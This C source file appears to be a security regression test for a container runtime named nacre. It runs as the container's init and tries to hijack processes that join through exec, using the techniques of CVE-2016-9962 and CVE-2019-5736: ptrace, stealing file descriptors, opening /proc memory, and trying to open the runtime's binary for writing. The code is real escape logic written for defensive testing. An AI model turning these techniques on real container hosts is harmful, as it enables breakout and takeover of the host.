/* SPDX-License-Identifier: Apache-2.0 */
/*
 * As process 1 of a container, lies in wait for processes that join it (nacre exec) and are still the
 * runtime's: traces them, opens their program, memory and descriptors (CVE-2016-9962), and writes to the
 * program of the runtime once somebody has it executed in here (CVE-2019-5736). Runs until it has seen
 * as many join as its argument says, or for 90 seconds.
 *
 * What joins has the name of the guest's first program until its execve().
 */
/* EXPECT: exec=contained */
#include <time.h>

#include "attack.h"

#define SECONDS	  90
#define LOOKAHEAD 8

static dev_t root_dev, attacks_dev; /* where the programs of the container are */
static time_t end;

/* Between two tries: there may be one processor only. */
static void give_way(void)
{
	if (time(NULL) > end)
		exit(UNABLE);
	sched_yield();
}

/* Its name; false when there is no such process. */
static int name_of(pid_t pid, char name[32])
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, name, 31);
	close(fd);
	if (n <= 0)
		return 0;
	name[n - 1] = 0;
	return 1;
}

static int is_joining(pid_t pid)
{
	char name[32];

	return name_of(pid, name) && strcmp(name, "init") == 0;
}

/* A file of the process, below /proc; -1 if it cannot be opened. */
static int open_of(pid_t pid, const char *name, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return open(path, flags | O_CLOEXEC);
}

/* Is it still the runtime's? Opening the memory waits for an execve() that is going on. */
static int is_still_joining(pid_t pid)
{
	close(open_of(pid, "mem", O_RDONLY));
	return is_joining(pid);
}

static int catch_file(pid_t pid, const char *name, int flags)
{
	int fd = open_of(pid, name, flags), caught = fd >= 0 && is_still_joining(pid);

	if (caught)
		printf("%s of a process that joins was opened\n", name);
	close(fd);
	return caught;
}

static int catch_descriptor(pid_t pid)
{
	int process = (int)syscall(SYS_pidfd_open, pid, 0), caught = 0;

	for (int fd = 0; process >= 0 && fd < 10 && !caught; fd++) {
		int copy = (int)syscall(SYS_pidfd_getfd, process, fd, 0);

		caught = copy >= 0 && is_still_joining(pid);
		close(copy);
	}
	close(process);
	return caught;
}

static int catch_by_tracing(pid_t pid)
{
	int caught;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return 0;
	caught = is_still_joining(pid);
	/* It has become a program of the image meanwhile, and may go. */
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return caught;
}

/* The runtime's program that runs as one of the container's: can its file be written? */
static int catch_program(pid_t pid)
{
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC };
	int fd = open_of(pid, "exe", O_RDONLY), caught = 0;
	struct stat st;

	if (fd < 0 || fstat(fd, &st) < 0 || st.st_dev == root_dev || st.st_dev == attacks_dev)
		return 0;
	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++)
		caught |= open_of(pid, "exe", flags[i]) >= 0;
	caught |= fchmod(fd, 0777) == 0 || fchown(fd, 0, 0) == 0;
	printf("the runtime's program runs in here, and was %swritten to\n", caught ? "" : "not ");
	return caught;
}

/* One of the ways but the quickest. */
static int catch_otherwise(pid_t pid, unsigned int which)
{
	static const struct {
		const char *name;
		int flags;
	} files[] = {
		{ "exe", O_WRONLY }, { "mem", O_RDWR }, { "environ", O_RDONLY }, { "fd", O_RDONLY },
		{ "fd/0", O_RDONLY }, { "fdinfo/0", O_RDONLY }, { "root", O_PATH }, { "cwd", O_PATH },
	};
	const unsigned int n = sizeof(files) / sizeof(files[0]);

	which %= n + 2;
	if (which < n)
		return catch_file(pid, files[which].name, files[which].flags);
	return which == n ? catch_descriptor(pid) : catch_by_tracing(pid);
}

/*
 * Follows one until it is the container's or gone. What is not dumpable for other reasons most of the time may
 * be so for a few system calls only: so the quickest way is tried between all others.
 */
static int follow(pid_t pid)
{
	unsigned int tries = 0;

	for (; is_joining(pid); tries++) {
		if (catch_file(pid, "exe", O_RDONLY) || catch_otherwise(pid, tries))
			exit(SUCCEEDED);
		give_way();
	}
	if (catch_program(pid))
		exit(SUCCEEDED);
	printf("process %d: %u tries\n", pid, tries);
	fflush(stdout);
	return tries > 0;
}

/* The next process after `last`; who joins gets the next number. */
static pid_t wait_for_next(pid_t last)
{
	char name[32];

	for (;; give_way()) {
		for (pid_t pid = last + 1; pid <= last + LOOKAHEAD; pid++) {
			if (name_of(pid, name))
				return pid;
		}
	}
}

int main(int argc, char **argv)
{
	int wanted = argc > 1 ? atoi(argv[1]) : 1;
	pid_t pid = getpid();
	struct stat st;

	NEED(stat("/", &st));
	root_dev = st.st_dev;
	NEED(stat("/attacks/driver", &st));
	attacks_dev = st.st_dev;
	end = time(NULL) + SECONDS;
	puts("ready");
	fflush(stdout);
	while (wanted > 0) {
		pid = wait_for_next(pid);
		wanted -= follow(pid);
	}
	return CONTAINED;
}
